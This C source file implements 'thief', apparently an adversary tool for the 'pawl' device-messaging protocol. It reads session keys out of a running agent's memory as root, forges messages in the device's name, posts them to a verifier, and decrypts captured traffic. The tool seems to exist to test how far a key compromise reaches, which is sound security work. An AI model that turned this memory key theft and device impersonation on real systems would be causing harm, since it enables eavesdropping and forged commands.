/* SPDX-License-Identifier: Apache-2.0 */
/*
 * thief steal --pid PID --state DIR --out KEYS      out of a running agent's memory, as root
 * thief seal --keys KEYS --seq N --id N --text T    one message in the device's name
 * thief send .. --verifier https://HOST:PORT        the same, and sent
 * thief open --keys KEYS <COSE                      what a listener reads; a message in hex a line
 *
 * seal, send: [--dir up|down] [--epoch N] [--gen N] [--gen-start N] [--epoch-start N]
 *             [--boot-id HEX] [--form compact]
 * steal: --state stands for the device's state directory, whose record says who it is.
 *
 * Prints `dir=up epoch=2 gen=0 seq=7 id=1 leaf=HEX cose=HEX` for what it made, http=STATUS and what
 * of the answer it could read behind it; for what it read `dir=.. epoch=.. gen=.. seq=.. type=..
 * id=.. leaf=HEX text=TEXT`, or `closed seq=..`. Exit code 1: not everything opened, or the
 * verifier did not answer 200.
 */
#include "thief.h"

#include <getopt.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>

struct wish {
    const char           *state, *keys, *out, *text, *verifier;
    pid_t                 pid;
    enum pawl_dir         dir;
    enum pawl_msg_form    form;
    bool                  has_gen, has_boot_id;
    uint64_t              epoch, gen, id;
    struct pawl_msg_place at;
};

static struct loot loot;

static struct pawl_msg_scope scope(void)
{
    return (struct pawl_msg_scope){ .tenant = pawl_view_str(loot.tenant),
                                    .device_id = PAWL_VIEW_OF(loot.device_id),
                                    .verifier_id = PAWL_VIEW_OF(loot.verifier_id) };
}

static void print_hex(const char *name, const uint8_t *p, size_t n)
{
    printf(" %s=", name);
    for (size_t i = 0; i < n; i++)
        printf("%02x", p[i]);
}

static void print_place(enum pawl_dir dir, const struct pawl_use *use, uint64_t seq)
{
    printf("dir=%s epoch=%" PRIu64 " gen=%" PRIu32 " seq=%" PRIu64, dir ? "down" : "up", use->epoch,
           use->gen, seq);
}

/* ---- steal ---------------------------------------------------------------------------------- */

static int steal(const struct wish *w)
{
    if (!w->pid || !w->state || !w->out)
        give_up("steal needs --pid, --state and --out");
    loot_scope(&loot, w->state);
    memory_search(w->pid, &loot);
    if (!loot.use_n && !loot.chain_n)
        give_up("process %ld holds no key of a generation", (long)w->pid);
    loot_write(w->out, &loot);
    return 0;
}

/* ---- open ----------------------------------------------------------------------------------- */

static bool open_as(enum pawl_dir dir, const struct pawl_msg *m)
{
    static uint8_t              plain[PAWL_PLAINTEXT_MAX];
    const struct pawl_msg_scope s = scope();
    uint8_t                     leaf[PAWL_LEAF];
    struct pawl_use             use;
    struct pawl_content         c;
    struct pawl_err             err;
    size_t                      n;

    if (!loot_key_of(&loot, dir, m, &use) ||
        !pawl_is_ok(pawl_msg_open(&use, &s, m, plain, sizeof(plain), &n, leaf, &err)))
        return false;
    must(pawl_content_parse(pawl_view(plain, n), &c, &err), &err);
    print_place(dir, &use, m->at.seq);
    printf(" type=%d id=%" PRIu64, (int)c.type, c.id);
    print_hex("leaf", leaf, sizeof(leaf));
    printf(" text=%.*s\n", (int)c.body.n, (const char *)c.body.p);
    return true;
}

static bool open_one(struct pawl_view cose)
{
    struct pawl_msg m;
    struct pawl_err err;

    must(pawl_msg_parse(cose, &m, &err), &err);
    if (open_as(PAWL_UP, &m) || open_as(PAWL_DOWN, &m))
        return true;
    printf("closed seq=%" PRIu64 "\n", m.at.seq);
    return false;
}

static int open_all(void)
{
    static char     line[2 * PAWL_MESSAGE_MAX + 2];
    static uint8_t  cose[PAWL_MESSAGE_MAX];
    struct pawl_err err;
    size_t          n;
    int             code = 0;

    while (fgets(line, sizeof(line), stdin)) {
        line[strcspn(line, "\n")] = 0;
        must(pawl_hex_parse(line, "cose", cose, sizeof(cose), &n, &err), &err);
        if (!open_one(pawl_view(cose, n)))
            code = 1;
    }
    return code;
}

/* ---- seal, send ----------------------------------------------------------------------------- */

/* What the thief does not know better. */
static void complete(struct wish *w)
{
    struct pawl_err err;

    if (!w->at.seq || !w->text)
        give_up("--seq and --text are needed");
    if (!w->epoch)
        w->epoch = loot_epoch(&loot);
    if (!w->has_gen)
        w->gen = loot_gen(&loot, w->dir, w->epoch);
    if (!w->at.gen_start_seq)
        w->at.gen_start_seq = w->at.seq;
    if (!w->at.epoch_start_seq)
        w->at.epoch_start_seq = 1;
    if (!w->has_boot_id)
        must(pawl_random(w->at.boot_id, sizeof(w->at.boot_id), &err), &err);
}

static struct pawl_view seal(struct wish *w)
{
    static uint8_t              cose[PAWL_MESSAGE_MAX], plain[PAWL_PLAINTEXT_MAX];
    struct pawl_wr              pw = pawl_wr_to(plain, sizeof(plain));
    struct pawl_wr              cw = pawl_wr_to(cose, sizeof(cose));
    struct pawl_content         c = { .type = PAWL_CONTENT_APP, .id = w->id };
    const struct pawl_msg_scope s = scope();
    uint8_t                     leaf[PAWL_LEAF];
    struct pawl_use             use;
    struct pawl_err             err;

    complete(w);
    c.body = pawl_view_str(w->text);
    if (!loot_key(&loot, w->dir, w->epoch, (uint32_t)w->gen, &use))
        give_up("there is no key of epoch %" PRIu64 ", generation %" PRIu64, w->epoch, w->gen);
    must(pawl_content_write(&c, &pw, &err), &err);
    must(pawl_msg_seal(&use, &s, &w->at, w->form, pawl_view(plain, pw.n), &cw, leaf, &err), &err);
    print_place(w->dir, &use, w->at.seq);
    printf(" id=%" PRIu64, w->id);
    print_hex("leaf", leaf, sizeof(leaf));
    print_hex("cose", cose, cw.n);
    putchar('\n');
    return pawl_view(cose, cw.n);
}

static void read_answer(struct pawl_view body)
{
    struct pawl_messages_ans ans;
    struct pawl_err          err;

    if (!pawl_is_ok(pawl_messages_ans_parse(body, &ans, &err)))
        return;
    for (size_t i = 0; i < ans.n; i++)
        open_one(ans.cose[i]);
}

static int send_it(struct wish *w)
{
    static uint8_t           body[PAWL_MESSAGE_MAX + 512], answer[PAWL_MESSAGES_MAX];
    struct pawl_messages_req req = { .n = 1, .cose = { seal(w) } };
    struct pawl_wr           out = pawl_wr_to(body, sizeof(body));
    struct pawl_err          err;
    char                     url[512];
    size_t                   n;

    if (!w->verifier)
        give_up("send needs --verifier");
    req.tenant = scope().tenant;
    req.device_id = scope().device_id;
    must(pawl_messages_req_write(&req, &out, &err), &err);
    snprintf(url, sizeof(url), "%s" PAWL_ROUTE_MESSAGES, w->verifier);
    long status = post(url, pawl_view(body, out.n), answer, &n);
    printf("http=%ld\n", status);
    if (status == 200)
        read_answer(pawl_view(answer, n));
    return status == 200 ? 0 : 1;
}

/* ---- the command line ----------------------------------------------------------------------- */

enum option_name {
    OPT_PID = 1,
    OPT_STATE,
    OPT_KEYS,
    OPT_OUT,
    OPT_TEXT,
    OPT_VERIFIER,
    OPT_DIR,
    OPT_FORM,
    OPT_EPOCH,
    OPT_GEN,
    OPT_ID,
    OPT_SEQ,
    OPT_GEN_START,
    OPT_EPOCH_START,
    OPT_BOOT_ID
};

static const struct option options[] = {
    { "pid", required_argument, NULL, OPT_PID },
    { "state", required_argument, NULL, OPT_STATE },
    { "keys", required_argument, NULL, OPT_KEYS },
    { "out", required_argument, NULL, OPT_OUT },
    { "text", required_argument, NULL, OPT_TEXT },
    { "verifier", required_argument, NULL, OPT_VERIFIER },
    { "dir", required_argument, NULL, OPT_DIR },
    { "form", required_argument, NULL, OPT_FORM },
    { "epoch", required_argument, NULL, OPT_EPOCH },
    { "gen", required_argument, NULL, OPT_GEN },
    { "id", required_argument, NULL, OPT_ID },
    { "seq", required_argument, NULL, OPT_SEQ },
    { "gen-start", required_argument, NULL, OPT_GEN_START },
    { "epoch-start", required_argument, NULL, OPT_EPOCH_START },
    { "boot-id", required_argument, NULL, OPT_BOOT_ID },
    { NULL, 0, NULL, 0 },
};

static void set_text(int name, struct wish *w)
{
    struct pawl_err err;

    if (name == OPT_STATE)
        w->state = optarg;
    else if (name == OPT_KEYS)
        w->keys = optarg;
    else if (name == OPT_OUT)
        w->out = optarg;
    else if (name == OPT_TEXT)
        w->text = optarg;
    else if (name == OPT_VERIFIER)
        w->verifier = optarg;
    else if (name == OPT_DIR)
        w->dir = strcmp(optarg, "down") ? PAWL_UP : PAWL_DOWN;
    else if (name == OPT_FORM)
        w->form = strcmp(optarg, "compact") ? PAWL_MSG_FULL : PAWL_MSG_COMPACT;
    else {
        must(pawl_hex_parse_exact(optarg, "--boot-id", w->at.boot_id, PAWL_BOOT_ID, &err), &err);
        w->has_boot_id = true;
    }
}

/* False: it is no number's option. */
static bool set_number(int name, struct wish *w)
{
    uint64_t *const to[] = { [OPT_EPOCH] = &w->epoch,
                             [OPT_GEN] = &w->gen,
                             [OPT_ID] = &w->id,
                             [OPT_SEQ] = &w->at.seq,
                             [OPT_GEN_START] = &w->at.gen_start_seq,
                             [OPT_EPOCH_START] = &w->at.epoch_start_seq,
                             [OPT_BOOT_ID] = NULL };

    if (name == OPT_PID)
        w->pid = (pid_t)strtol(optarg, NULL, 10);
    else if (to[name])
        *to[name] = strtoull(optarg, NULL, 10);
    if (name == OPT_GEN)
        w->has_gen = true;
    return name == OPT_PID || to[name];
}

int main(int argc, char **argv)
{
    struct wish w = { .form = PAWL_MSG_FULL };
    const char *command = argc > 1 ? argv[1] : "";

    for (int name; (name = getopt_long(argc - 1, argv + 1, "", options, NULL)) != -1;) {
        if (name == '?')
            return 2;
        if (!set_number(name, &w))
            set_text(name, &w);
    }
    if (!strcmp(command, "steal"))
        return steal(&w);
    if (!w.keys)
        give_up("--keys is needed");
    loot_read(w.keys, &loot);
    if (!strcmp(command, "seal"))
        return seal(&w).n ? 0 : 1;
    if (!strcmp(command, "send"))
        return send_it(&w);
    if (!strcmp(command, "open"))
        return open_all();
    give_up("there is no command '%s'", command);
}
